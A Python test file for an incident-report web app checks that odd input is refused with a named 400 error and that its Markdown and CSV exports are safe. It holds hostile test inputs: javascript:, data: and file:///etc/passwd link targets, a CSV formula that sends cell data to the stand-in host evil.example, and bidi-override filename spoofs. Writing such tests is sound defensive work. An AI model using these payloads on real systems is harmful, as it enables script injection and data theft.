"""Odd input that used to give a 500 or leak something, one case at a time.

Item 9: lone surrogates, JSON nested too deeply, times whose local time overflows, years no page
can show, numbers the database cannot hold, a malformed chunked body: each is a 400 that names
what is wrong, and nothing unreadable is ever stored. Item 10: unsafe link targets in the
Markdown export, formulas in the CSV, bidirectional overrides in one-line fields.
"""

from __future__ import annotations

import copy
import csv
import io
import json
import os
import re
import socket
import subprocess
import sys
import time
import urllib.request
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from flask import Flask
from flask.testing import FlaskClient
from markdown_it import MarkdownIt
from werkzeug.datastructures import MultiDict

from exporters import FORMATS
from forms.report import ReportForm
from reports.exchange import DocumentError, from_document
from reports.json_body import load_json_body
from reports.markdown import drop_unsafe_links
from reports.model import Report
from reports.spreadsheet import spreadsheet_cell
from tests.conftest import csrf_token_from
from tests.growth import LINEAR_AT_MOST, growth
from tests.pages import store_of

ROOT = Path(__file__).resolve().parent.parent
BIDI = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"


def _report_count(client: FlaskClient) -> int:
    return len(client.get("/api/reports").get_json()["reports"])


def _post_json(client: FlaskClient, body: str | bytes) -> Any:
    return client.post("/api/reports", data=body, content_type="application/json")


def _new_page(client: FlaskClient) -> tuple[str, str]:
    """A new report's page: its address and a form token for it."""
    token = csrf_token_from(client.get("/").get_data(as_text=True))
    url = client.post("/reports", data={"csrf_token": token}).headers["Location"]
    return url, token


def _save_page(client: FlaskClient, url: str, token: str, fields: dict[str, str]) -> Any:
    """Autosave the page with ``fields``, based on the version the page shows now."""
    page = client.get(url).get_data(as_text=True)
    version = re.search(r'name="base_version"[^>]*value="(\d+)"', page)
    assert version, "the page has no base version"
    return client.post(url, data={"csrf_token": token, "base_version": version.group(1),
                                  **fields}, headers={"X-Hindsight-Autosave": "1"})


def _assert_report_pages_work(client: FlaskClient, report_id: int) -> None:
    for url in (f"/reports/{report_id}", f"/reports/{report_id}/view", "/", "/actions",
                "/actions.csv", f"/api/reports/{report_id}"):
        assert client.get(url).status_code == 200, url


# Item 9: lone surrogates ------------------------------------------------------------------


@pytest.mark.parametrize(
    ("change", "path"),
    [
        ({"title": "Outage \\ud800"}, "title"),
        ({"summary": "\\udfff at the start"}, "summary"),
        ({"authors": ["Dana", "\\ud83d"]}, "authors.1"),
        ({"timeline": [{"description": "x\\ud800y"}]}, "timeline.0.description"),
        ({"actions": [{"owner": "\\udc00"}]}, "actions.0.owner"),
        ({"lessons": {"lucky": "\\ud800"}}, "lessons.lucky"),
        ({"x_custom": {"note": ["\\ud800"]}}, "x_custom.note.0"),
        ({"x_custom": {"\\ud800": 1}}, "x_custom.\\ud800"),
    ],
)
def test_a_lone_surrogate_in_an_api_field_is_a_400_naming_it(
    client: FlaskClient, sample_document: dict[str, Any], change: dict[str, Any], path: str
) -> None:
    # Written by hand: json.dumps would escape the backslash of "\\ud800" itself.
    body = json.dumps(sample_document)[:-1] + ", " + json.dumps(change)[1:]
    body = body.replace("\\\\u", "\\u")
    response = _post_json(client, body)
    assert response.status_code == 400, response.get_data(as_text=True)
    problems = response.get_json()["problems"]
    assert path in problems and "not valid text" in problems[path]
    assert _report_count(client) == 0


def test_a_lone_surrogate_from_the_page_form_is_never_stored(app: Flask) -> None:
    """Browsers cannot send one (the request's decoder makes broken UTF-8 into U+FFFD); the
    form's filter does the same for anything else that fills a form."""
    with app.test_request_context():
        form = ReportForm(formdata=MultiDict({"title": "Outage \ud800", "summary": "a\udfffb",
                                              "authors": "Dana, \ud800"}), meta={"csrf": False})
        assert form.validate(), form.errors
        report = form.to_report(Report())
    assert report.title == "Outage \ufffd" and report.summary == "a\ufffdb"
    assert report.authors == ["Dana", "\ufffd"]
    json.dumps(report.title, ensure_ascii=False).encode("utf-8")  # storable


def test_the_cli_import_refuses_a_lone_surrogate_and_deep_nesting(
    app: Flask, tmp_path: Path, sample_document: dict[str, Any]
) -> None:
    runner = app.test_cli_runner()
    surrogate = tmp_path / "surrogate.json"
    surrogate.write_text(json.dumps({**sample_document, "title": "\ud800"}))  # as \ud800
    result = runner.invoke(args=["reports", "import", str(surrogate)])
    assert isinstance(result.exception, SystemExit) and result.exit_code == 1, result.output
    assert "title: contains a character that is not valid text" in result.output
    deep = tmp_path / "deep.json"
    deep.write_text('{"x_deep": ' + "[" * 5000 + "]" * 5000 + "}")
    result = runner.invoke(args=["reports", "import", str(deep)])
    assert isinstance(result.exception, SystemExit) and result.exit_code == 1, result.output
    assert "nested too deeply" in result.output
    assert runner.invoke(args=["reports", "list"]).output == ""


# Item 9: JSON bodies --------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("body", "path", "words"),
    [
        (b"[" * 1000 + b"]" * 1000, "", "nested too deeply"),
        (b'{"a": ' * 1000 + b"1" + b"}" * 1000, "", "nested too deeply"),
        (b'{"x": ' + b"[" * 40 + b"]" * 40 + b"}", "x." + ".".join(["0"] * 31), "nested too deep"),
        (b'{"title": "\xff\xfe"}', "", "not UTF-8"),
        (b'{"title": "\\ud800"}', "title", "not valid text"),
        (b'{"x": [1, "\\udc00"]}', "x.1", "not valid text"),
        (b'{"x": NaN}', "", "NaN is not a JSON number"),
        (b'{"x": -Infinity}', "", "not a JSON number"),
        (b'{"x": ' + b"9" * 5000 + b"}", "", "not valid JSON"),
        (b'{"title": "x",}', "", "not valid JSON"),
        (b"   ", "", "empty"),
    ],
)
def test_load_json_body_names_what_is_wrong(body: bytes, path: str, words: str) -> None:
    with pytest.raises(DocumentError) as caught:
        load_json_body(body)
    assert path in caught.value.problems, caught.value.problems
    assert words in caught.value.problems[path]


def test_load_json_body_reads_a_good_document(sample_document: dict[str, Any]) -> None:
    body = "\ufeff".encode() + json.dumps(sample_document, ensure_ascii=False).encode()
    assert load_json_body(body) == sample_document
    assert load_json_body('{"title": "😀 \\ud83d\\ude00"}'.encode())["title"] == "😀 😀"


def test_from_document_refuses_a_lone_surrogate_anywhere(
    sample_document: dict[str, Any],
) -> None:
    """Documents that do not come through load_json_body (a backup, a test) still never bring
    one in: unknown fields are kept as they are, so they are looked through too."""
    sample_document.update(apology="sorry \ud800", x_kept={"notes": [{"\udfff": "a"}]})
    with pytest.raises(DocumentError) as caught:
        from_document(sample_document)
    assert set(caught.value.problems) == {"apology", "x_kept.notes.0.\\udfff"}


def test_what_earlier_versions_stored_is_still_read(
    app: Flask, client: FlaskClient, sample_document: dict[str, Any]
) -> None:
    """The new limits are checked where documents come in, not when stored ones are read: a
    report saved before them (a due date of 9999-12-31 for "never", deep or non-finite extra
    fields) still opens, and says what to change."""
    nested: Any = "bottom"
    for _ in range(40):
        nested = [nested]
    sample_document.update(x_deep=nested, x_number=float("inf"), started_at="1850-06-01T10:00:00Z")
    sample_document["actions"][0]["due"] = "9999-12-31"
    report = from_document(sample_document)
    stored = store_of(app).create(report)  # as an earlier version did
    assert client.get(f"/api/reports/{stored.id}").status_code == 200
    page = client.get(f"/reports/{stored.id}")
    assert page.status_code == 200
    assert "This date must be between the years 1900 and 2200." in page.get_data(as_text=True)
    for url in ("/", "/actions", "/actions.csv", f"/reports/{stored.id}/view"):
        assert client.get(url).status_code == 200, url


# Item 9: times and dates at the ends of the calendar ------------------------------------------


@pytest.mark.parametrize(
    ("timezone", "change", "path"),
    [
        ("Pacific/Kiritimati", {"resolved_at": "9999-12-31T20:00:00+00:00"}, "resolved_at"),
        ("Pacific/Pago_Pago", {"started_at": "0001-01-01T00:00:00+00:00"}, "started_at"),
        ("Etc/GMT+12", {"started_at": "0001-01-01T00:00:00+00:00"}, "started_at"),
        ("UTC", {"detected_at": "0001-01-01T00:00:00+05:00"}, "detected_at"),
        ("America/St_Johns", {"resolved_at": "2201-01-01T00:00:00-03:30"}, "resolved_at"),
        ("Etc/GMT-14", {"timeline": [{"at": "9999-12-31T23:59:59+00:00"}]}, "timeline.0.at"),
        ("UTC", {"timeline": [{"at": "1899-12-31T23:59:00+00:00"}]}, "timeline.0.at"),
        ("UTC", {"actions": [{"due": "9999-12-31"}]}, "actions.0.due"),
        ("UTC", {"follow_up_review_on": "0001-01-01"}, "follow_up_review_on"),
        ("UTC", {"follow_up_held_on": "2201-01-01"}, "follow_up_held_on"),
    ],
)
def test_times_outside_the_years_are_a_400_naming_the_field(
    client: FlaskClient, sample_document: dict[str, Any], timezone: str,
    change: dict[str, Any], path: str,
) -> None:
    sample_document.update(timezone=timezone, **change)
    response = client.post("/api/reports", json=sample_document)
    assert response.status_code == 400, response.get_data(as_text=True)
    assert "between the years 1900 and 2200" in response.get_json()["problems"][path]
    assert _report_count(client) == 0


def test_the_cli_import_refuses_a_time_that_overflows(
    app: Flask, tmp_path: Path, sample_document: dict[str, Any]
) -> None:
    source = tmp_path / "far.json"
    source.write_text(json.dumps({**sample_document, "timezone": "Pacific/Kiritimati",
                                  "resolved_at": "9999-12-31T20:00:00+00:00"}))
    result = app.test_cli_runner().invoke(args=["reports", "import", str(source)])
    assert result.exit_code == 1
    assert "resolved_at: This time must be between the years 1900 and 2200." in result.output


@pytest.mark.parametrize(
    ("timezone", "earliest", "latest"),
    [
        ("Pacific/Kiritimati", "1900-01-01T00:00:00-12:00", "2200-12-31T23:59:00+14:00"),
        ("Etc/GMT+12", "1900-01-01T00:00:00+14:00", "2200-12-31T23:59:00-12:00"),
        ("America/St_Johns", "1900-01-01T00:00:00-03:30", "2200-12-31T23:59:59-03:30"),
    ],
)
def test_the_ends_of_the_range_are_accepted_and_every_page_shows_them(
    client: FlaskClient, sample_document: dict[str, Any], timezone: str, earliest: str,
    latest: str,
) -> None:
    sample_document.update(timezone=timezone, started_at=earliest, detected_at=earliest,
                           resolved_at=latest, follow_up_review_on="2200-12-31")
    sample_document["timeline"][0]["at"] = earliest
    sample_document["timeline"][-1]["at"] = latest
    sample_document["actions"][0].update(due="1900-01-01", status="agreed")
    response = client.post("/api/reports", json=sample_document)
    assert response.status_code == 201, response.get_data(as_text=True)
    report_id = response.get_json()["id"]
    _assert_report_pages_work(client, report_id)
    assert FORMATS["md"].render(from_document(sample_document))


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("resolved_at", "9999-12-15T10:00"),
        ("started_at", "0001-01-01T00:00"),
        ("timeline-0-at", "9999-12-31T23:00"),
        ("actions-0-due", "9999-12-15"),
        ("follow_up_review_on", "9999-12-15"),
        ("follow_up_review_on", "1899-12-31"),
    ],
)
def test_the_page_refuses_years_outside_the_range(
    client: FlaskClient, field: str, value: str
) -> None:
    url, token = _new_page(client)
    before = client.get(f"/api/reports/{url.rsplit('/', 1)[1]}").get_json()
    response = _save_page(client, url, token, {"timezone": "Pacific/Kiritimati", field: value})
    assert response.status_code == 400, response.get_data(as_text=True)[:300]
    errors = response.get_json()["errors"]
    assert [e["id"] for e in errors] == [field]
    assert errors[0]["message"] == "Enter a year between 1900 and 2200."
    assert client.get(f"/api/reports/{url.rsplit('/', 1)[1]}").get_json() == before


def test_a_resolved_date_given_without_a_time_is_refused_by_the_page(
    client: FlaskClient,
) -> None:
    url, token = _new_page(client)
    response = _save_page(client, url, token, {"resolved_at": "9999-12-15"})
    assert response.status_code == 400
    assert response.get_json()["errors"][0]["id"] == "resolved_at"


def test_a_follow_up_date_worked_out_past_the_range_is_refused_not_stored(
    client: FlaskClient,
) -> None:
    """Two months after an incident resolved in December 2200 is 2201: refused on the field."""
    url, token = _new_page(client)
    response = _save_page(client, url, token, {"started_at": "2200-12-14T10:00",
                                               "resolved_at": "2200-12-15T10:00"})
    assert response.status_code == 400
    errors = response.get_json()["errors"]
    assert [e["id"] for e in errors] == ["follow_up_review_on"]
    assert "between the years 1900 and 2200" in errors[0]["message"]
    _assert_report_pages_work(client, int(url.rsplit("/", 1)[1]))


# Item 9: numbers in query strings and forms ---------------------------------------------------


@pytest.mark.parametrize("year", ["99999", "9999", "-3", "0", "1899", "2201",
                                  "9" * 30])
def test_a_library_year_outside_the_range_is_a_400_naming_it(
    client: FlaskClient, year: str
) -> None:
    response = client.get(f"/?year={year}")
    assert response.status_code == 400
    assert "The year filter (year) must be a whole number from 1,900 to 2,200." in (
        response.get_data(as_text=True))


def test_a_library_year_inside_the_range_still_filters(client: FlaskClient) -> None:
    assert client.get("/?year=2200").status_code == 200
    assert client.get("/?year=1900").status_code == 200
    assert client.get("/?year=not-a-year").status_code == 200  # ignored, as before


@pytest.mark.parametrize(
    ("report_id", "position", "named"),
    [
        (str(2**31), "0", "report_id"),
        ("9" * 25, "0", "report_id"),
        ("-1", "0", "report_id"),
        ("1", str(2**31), "position"),
        ("1", "-1", "position"),
        ("", "0", "report_id"),
    ],
)
def test_mark_done_refuses_numbers_no_report_can_have(
    client: FlaskClient, sample_document: dict[str, Any], report_id: str, position: str,
    named: str,
) -> None:
    """On PostgreSQL an id above 2^31 - 1 used to fail inside the query (a 500)."""
    client.post("/api/reports", json=sample_document)
    token = csrf_token_from(client.get("/actions").get_data(as_text=True))
    response = client.post("/actions/done", data={"csrf_token": token, "report_id": report_id,
                                                  "position": position})
    assert response.status_code == 400
    assert f"({named})" in response.get_data(as_text=True)
    assert client.get("/api/reports/1").get_json()["version"] == 1


# Item 9: a malformed chunked body -------------------------------------------------------------


def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def _raw_post(port: int, path: str, content_type: str, body: bytes) -> int:
    with socket.create_connection(("127.0.0.1", port), timeout=10) as connection:
        connection.sendall(
            f"POST {path} HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: {content_type}\r\n"
            "Transfer-Encoding: chunked\r\nConnection: close\r\n\r\n".encode() + body)
        answer = b""
        while chunk := connection.recv(65536):
            answer += chunk
    return int(answer.split(b" ", 2)[1])


def test_a_malformed_chunked_body_under_gunicorn_is_a_400(tmp_path: Path) -> None:
    port = _free_port()
    env = {**os.environ, "HINDSIGHT_INSTANCE_PATH": str(tmp_path / "instance"),
           "HINDSIGHT_BIND": f"127.0.0.1:{port}", "HINDSIGHT_WORKERS": "1"}
    gunicorn = Path(sys.executable).with_name("gunicorn")
    process = subprocess.Popen([str(gunicorn), "-c", "gunicorn.conf.py", "app:create_app()"],
                               cwd=ROOT, env=env, stdout=subprocess.PIPE,
                               stderr=subprocess.STDOUT, text=True)
    try:
        deadline = time.monotonic() + 30
        while True:
            try:
                with urllib.request.urlopen(f"http://127.0.0.1:{port}/healthz", timeout=1):
                    break
            except OSError:
                assert time.monotonic() < deadline, "gunicorn did not start"
                time.sleep(0.2)
        bodies = [b"zz\r\nabc\r\n0\r\n\r\n", b"-5\r\nabc\r\n0\r\n\r\n",
                  b"3\r\nabcdef\r\n0\r\n\r\n"]
        routes = [("/api/reports", "application/json"),
                  ("/reports", "application/x-www-form-urlencoded"),
                  ("/actions/done", "application/x-www-form-urlencoded")]
        statuses = {(path, body): _raw_post(port, path, kind, body)
                    for path, kind in routes for body in bodies}
    finally:
        process.terminate()
        output, _ = process.communicate(timeout=30)
    assert set(statuses.values()) == {400}, (statuses, output[-2000:])
    assert "Traceback" not in output


# Item 10: links in the Markdown export ------------------------------------------------------


UNSAFE_TARGETS = [
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)",
    "&#106;avascript:alert(1)", "&#x6A;avascript&colon;alert(1)", "jav&#x09;ascript:alert(1)",
    " javascript:alert(1)", "javascript\\:alert(1)", "<javascript:alert(1)>",
    "data:text/html;base64,PHNjcmlwdD4=", "DATA:image/png;base64,AAAA", "vbscript:msgbox(1)",
    "file:///etc/passwd", "%6Aavascript:alert(1)", "java\u200bscript:alert(1)",
]


def _permissive_links(markdown: str) -> list[str]:
    """Every link and image target a lax renderer (one that checks nothing) would make."""
    parser = MarkdownIt("commonmark").enable("table")
    parser.validateLink = lambda url: True  # type: ignore[method-assign]
    return re.findall(r'(?:href|src)="([^"]*)"', parser.render(markdown))


def _report_with(text: str, sample_document: dict[str, Any]) -> Report:
    document = copy.deepcopy(sample_document)
    document["summary"] = text
    document["lessons"]["lucky"] = text
    document["timeline"][0]["description"] = text
    return from_document(document)


@pytest.mark.parametrize("target", UNSAFE_TARGETS)
def test_the_markdown_export_drops_unsafe_link_targets(
    sample_document: dict[str, Any], target: str
) -> None:
    text = (f"See [the status page]({target}) and ![the chart]({target} \"chart\").\n\n"
            f"Also [the runbook][r].\n\n[r]: {target}")
    markdown = FORMATS["md"].render(_report_with(text, sample_document)).decode()
    assert markdown.count("See the status page and the chart.") == 3
    flat = re.sub(r"[\s\u200b]", "", markdown).lower()
    for scheme in ("javascript", "vbscript", "file:", "data:", "&#106;", "&#x6a;", "%6a"):
        assert scheme not in flat, scheme
    for url in _permissive_links(markdown):
        assert url.startswith(("http://", "https://")), url


def test_the_markdown_export_keeps_safe_links_and_code(sample_document: dict[str, Any]) -> None:
    text = ("Read [the notes](https://status.example.com/x?a=1&b=(2)) or "
            "[mail us](mailto:ops@example.com), [below](#timeline).\n\n"
            "```\n[a](javascript:void(0))\n```")
    markdown = FORMATS["md"].render(_report_with(text, sample_document)).decode()
    assert "[the notes](https://status.example.com/x?a=1&b=(2))" in markdown
    assert "[mail us](mailto:ops@example.com)" in markdown and "[below](#timeline)" in markdown
    assert "```\n[a](javascript:void(0))\n```" in markdown  # code is shown, never linked


def _hostile_links(repeats: int) -> str:
    return "[x](javascript:1) ](" * repeats + "[" * repeats + "](javascript:" * repeats


def test_drop_unsafe_links_takes_linear_time_on_hostile_text() -> None:
    """Eight times the text takes about eight times as long (7x measured)."""
    assert "javascript" not in drop_unsafe_links(_hostile_links(20_000))

    def cleaning(repeats: int) -> Callable[[], object]:
        text = _hostile_links(repeats)
        return lambda: drop_unsafe_links(text)

    assert growth(cleaning, 1_000) < LINEAR_AT_MOST


# Item 10: spreadsheet cells -----------------------------------------------------------------


@pytest.mark.parametrize(
    "start",
    ["=", "+", "-", "@", "\t=", "\r=", " =", "  +", "\n=", "\u3000=", "\u00a0=", "\uff1d",
     "\uff0b", "\uff0d", "\uff20", "\ufe66", "\u200b=", "\u200c\u200d=", "\u2060=", "\ufeff=",
     "\u202e=", "\u2212"],
)
def test_csv_cells_that_could_start_a_formula_start_with_a_quote(
    client: FlaskClient, sample_document: dict[str, Any], start: str
) -> None:
    formula = f'{start}HYPERLINK("http://evil.example/?d="&A1, "Click")'
    sample_document["title"] = formula
    sample_document["actions"][0].update(description=formula, owner=formula)
    assert client.post("/api/reports", json=sample_document).status_code == 201
    rows = list(csv.reader(io.StringIO(client.get("/actions.csv").get_data(as_text=True))))
    row = next(r for r in rows[1:] if r[2].endswith('"Click")'))
    for cell in (row[1], row[2], row[3]):
        assert cell.startswith("'"), repr(cell)


@pytest.mark.parametrize("text", ["Platform team", " Dana", "a=b", "Fix: +1 retry", "", "42",
                                  "Ｄana"])
def test_csv_cells_of_plain_text_are_left_as_they_are(text: str) -> None:
    assert spreadsheet_cell(text) == text


# Item 10: bidirectional overrides in one-line fields ----------------------------------------


def test_bidi_controls_never_reach_the_library_the_actions_page_or_the_csv(
    client: FlaskClient, sample_document: dict[str, Any]
) -> None:
    sample_document.update(title="Invoice \u202eexe.fdp\u202c outage",
                           service="pay\u2067ments\u2069", authors=["Dana \u202dLee"],
                           summary="Prose keeps \u2067عربي\u2069 isolates.")
    sample_document["actions"][0]["owner"] = "\u202bPlatform\u202c team"
    report_id = client.post("/api/reports", json=sample_document).get_json()["id"]
    pages = [client.get(url).get_data(as_text=True)
             for url in ("/", "/actions", "/actions.csv", f"/api/reports/{report_id}")]
    for page in pages:
        assert not set(BIDI) & set(page.split("Prose keeps")[0]), page[:200]
    assert "Invoice exe.fdp outage" in pages[0] and "Platform team" in pages[1]
    stored = client.get(f"/api/reports/{report_id}").get_json()
    assert stored["summary"] == "Prose keeps \u2067عربي\u2069 isolates."  # prose may need them


def test_bidi_controls_typed_on_the_page_are_dropped_from_one_line_fields(
    client: FlaskClient,
) -> None:
    url, token = _new_page(client)
    response = _save_page(client, url, token, {
        "title": "Invoice \u202eexe.fdp", "service": "\u2066pay", "authors": "Dana \u202eLee",
        "actions-0-owner": "\u202eOps", "actions-0-description": "Fix it",
        "summary": "keeps \u2067x\u2069"})
    assert response.status_code == 200, response.get_data(as_text=True)
    stored = client.get(f"/api/reports/{url.rsplit('/', 1)[1]}").get_json()
    assert (stored["title"], stored["service"], stored["authors"]) == (
        "Invoice exe.fdp", "pay", ["Dana Lee"])
    assert stored["actions"][0]["owner"] == "Ops" and stored["summary"] == "keeps \u2067x\u2069"
